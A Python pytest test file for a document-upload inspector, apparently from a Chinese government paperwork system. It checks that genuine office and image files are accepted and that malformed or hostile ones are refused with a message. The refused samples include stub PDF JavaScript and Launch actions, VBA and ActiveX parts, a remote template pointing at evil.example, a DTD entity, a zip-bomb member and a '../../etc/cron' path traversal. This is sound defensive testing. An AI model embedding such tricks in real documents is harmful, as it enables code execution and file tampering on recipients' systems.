"""Every file is either one of ours, really opened, or refused with its own sentence."""

from __future__ import annotations

import zipfile

import pytest

from papers import errors
from papers.inspection import check_not_classified, clean_name, inspect
from tests.papers import files

MOST = 1024 * 1024
HONEST = {
    "批复.pdf": files.pdf(),
    "公文.ofd": files.ofd(),
    "请示.docx": files.word(),
    "清单.xlsx": files.workbook(),
    "现场.JPG": files.jpeg(),
    "现场.jpeg": files.jpeg(),
    "图.png": files.png(),
}
MACRO_TYPES = b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"
TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm"/>'
    b"</Relationships>"
)
DTD = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>'

REFUSED = [
    ("安装.exe", b"MZ\x90", errors.PaperKindUnknown),
    ("脚本.js", b"alert(1)", errors.PaperKindUnknown),
    ("网页.html", b"<script>", errors.PaperKindUnknown),
    ("图.svg", b"<svg/>", errors.PaperKindUnknown),
    ("没有扩展名", b"%PDF-1.7", errors.PaperKindUnknown),
    ("双重.pdf.exe", files.pdf(), errors.PaperKindUnknown),
    ("宏.docm", files.word(), errors.PaperKindUnknown),
    ("宏.xlsm", files.workbook(), errors.PaperKindUnknown),
    ("旧.doc", b"\xd0\xcf\x11\xe0", errors.PaperKindUnknown),
    ("包.rar", files.archive({"a.txt": b"a"}), errors.PaperKindUnknown),
    ("包.zip", files.archive({"a.txt": b"a"}), errors.PaperIsSomethingElse),
    ("红线.zip", files.archive({"a.shp": b"a", "a.shx": b"a", "a.pdf": b"a"}), errors.PaperIsSomethingElse),
    ("红线.zip", files.archive({"a.shp": b"a", "a.shx": b"a", "a.exe": b"a"}), errors.PaperHasProgram),
    ("红线.geojson", b"{", errors.PaperDamaged),
    ("红线.geojson", b"[]", errors.PaperIsSomethingElse),
    ("空.pdf", b"", errors.PaperEmpty),
    ("大.pdf", files.pdf() + b" " * MOST, errors.PaperTooLarge),
    ("程序.pdf", b"MZ\x90\x00", errors.PaperIsSomethingElse),
    ("网页.pdf", b"<html>%PDF-1.7", errors.PaperIsSomethingElse),
    ("图.jpg", files.png(), errors.PaperIsSomethingElse),
    ("表.docx", files.workbook(), errors.PaperIsSomethingElse),
    ("文.xlsx", files.word(), errors.PaperIsSomethingElse),
    ("包.docx", files.archive({"a.txt": b"a"}), errors.PaperIsSomethingElse),
    ("文.ofd", files.word(), errors.PaperIsSomethingElse),
    ("半.pdf", files.pdf()[:-20], errors.PaperDamaged),
    ("尾.pdf", b"%PDF-1.7\nhello\nstartxref\n5\n%%EOF\n", errors.PaperDamaged),
    ("半.docx", files.word()[:-200], errors.PaperDamaged),
    ("半.png", files.png()[:-6], errors.PaperDamaged),
    ("改.png", files.png().replace(b"IDAT", b"IDAX"), errors.PaperDamaged),
    ("尾.png", files.png() + b"PK\x03\x04", errors.PaperIsSomethingElse),
    ("半.jpg", files.jpeg()[:-2], errors.PaperDamaged),
    ("假.jpg", b"\xff\xd8\xff" + b"\x00" * 50 + b"\xff\xd9", errors.PaperDamaged),
    ("密.pdf", files.pdf(inside=b"/Encrypt 5 0 R"), errors.PaperEncrypted),
    ("密.docx", bytes.fromhex("D0CF11E0A1B11AE1") + b"EncryptedPackage", errors.PaperEncrypted),
    ("密.ofd", files.with_members(files.ofd(), {"Encryptions.xml": b"<a/>"}), errors.PaperEncrypted),
    ("脚本.pdf", files.pdf(inside=b"/OpenAction << /S /JavaScript /JS (x) >>"), errors.PaperHasProgram),
    ("启动.pdf", files.pdf(inside=b"/S /Launch"), errors.PaperHasProgram),
    ("宏.docx", files.with_members(files.word(), {"word/vbaProject.bin": b"x"}), errors.PaperHasProgram),
    ("控.xlsx", files.with_members(files.workbook(), {"xl/activeX/a.xml": b"x"}), errors.PaperHasProgram),
    ("夹.docx", files.with_members(files.word(), {"word/embeddings/a.exe": b"MZ"}), errors.PaperHasProgram),
    (
        "类.docx",
        files.with_members(
            files.word(), {"[Content_Types].xml": MACRO_TYPES}, replaced=("[Content_Types].xml",)
        ),
        errors.PaperHasProgram,
    ),
    (
        "模板.docx",
        files.with_members(files.word(), {"word/_rels/settings.xml.rels": TEMPLATE}),
        errors.PaperHasProgram,
    ),
    (
        "实体.docx",
        files.with_members(files.word(), {"word/document.xml": DTD}, replaced=("word/document.xml",)),
        errors.PaperHasProgram,
    ),
    (
        "炸弹.docx",
        files.with_members(files.word(), {"word/media/a.bin": b"\x00" * 5_000_000}),
        errors.PaperRefused,
    ),
    ("越界.docx", files.with_members(files.word(), {"../../etc/cron": b"x"}), errors.PaperRefused),
]


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_is_let_in(name: str) -> None:
    found = inspect(name, HONEST[name], most_bytes=MOST)

    assert found.media_type


@pytest.mark.parametrize(("name", "content", "error"), REFUSED, ids=[name for name, _, _ in REFUSED])
def test_a_dishonest_file_is_refused_with_its_sentence(
    name: str, content: bytes, error: type[errors.PaperRefused]
) -> None:
    with pytest.raises(error) as refused:
        inspect(name, content, most_bytes=MOST)

    assert type(refused.value) is error
    assert "请" in refused.value.message


def test_a_container_whose_bytes_disagree_with_its_checksums_is_damaged() -> None:
    content = bytearray(files.archive({"OFD.xml": b"DocRoot" + b"0123456789abcdef" * 20}))
    with zipfile.ZipFile(__import__("io").BytesIO(bytes(content))) as container:
        start = container.infolist()[0].header_offset + 30 + len("OFD.xml")
    content[start + 4] ^= 0xFF

    with pytest.raises(errors.PaperDamaged):
        inspect("公文.ofd", bytes(content), most_bytes=MOST)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("C:\\桌面\\批复.pdf", "批复.pdf"),
        ("../../批复.pdf", "批复.pdf"),
        ("批\u202e复\r\n.pdf", "批复.pdf"),
        ("长" * 300 + ".pdf", "长" * 196 + ".pdf"),
    ],
)
def test_a_name_keeps_only_what_a_name_needs(given: str, kept: str) -> None:
    assert clean_name(given) == kept


@pytest.mark.parametrize("title", ["机密★10年 规划图", "秘密文件", "绝密"])
def test_a_mark_of_secrecy_in_the_name_is_refused(title: str) -> None:
    with pytest.raises(errors.PaperIsClassified) as refused:
        check_not_classified("a.pdf", title)

    assert refused.value.facts["mark"] in title


def test_a_trade_secret_is_no_state_secret() -> None:
    check_not_classified("商业秘密保护协议.pdf")
